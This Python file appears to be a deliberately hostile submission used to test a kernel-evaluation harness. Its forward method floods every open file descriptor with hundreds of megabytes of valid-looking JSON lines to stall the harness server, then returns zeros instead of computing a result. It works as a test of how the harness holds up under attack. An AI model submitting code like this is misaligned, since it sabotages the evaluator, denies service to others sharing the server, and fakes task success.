# Hostile: floods the harness's pipe with 300 MB of short, valid lines (each a message the
# server decodes and ignores), keeping the server's loop, which serves every other
# request, busy; returns zeros if it ever gets there.
import os
import select
import signal

import torch

LINES = b'{"ready": true}\n' * 65536  # 1 MB


def _write_all(fd, data, stall_s=2.0):
    """Writes `data` to `fd`; False when nobody drains it for `stall_s` (the CUDA
    driver's own pipes in a GPU child: a blocked write there would end the attack before
    it reached the harness's pipe, as a timeout)."""
    blocking = os.get_blocking(fd)
    os.set_blocking(fd, False)
    try:
        view = memoryview(data)
        while view:
            if not select.select([], [fd], [], stall_s)[1]:
                return False
            try:
                view = view[os.write(fd, view):]
            except BlockingIOError:
                continue
        return True
    finally:
        os.set_blocking(fd, blocking)


class ModelNew(torch.nn.Module):
    def forward(self, x):
        # A write to a socket its peer stopped reading raises EPIPE instead of killing it.
        signal.signal(signal.SIGPIPE, signal.SIG_IGN)
        for fd in range(3, 64):
            try:
                os.fstat(fd)
            except OSError:
                continue
            try:
                for _ in range(300):
                    if not _write_all(fd, LINES):
                        break
            except OSError:
                pass
        return torch.zeros_like(x)
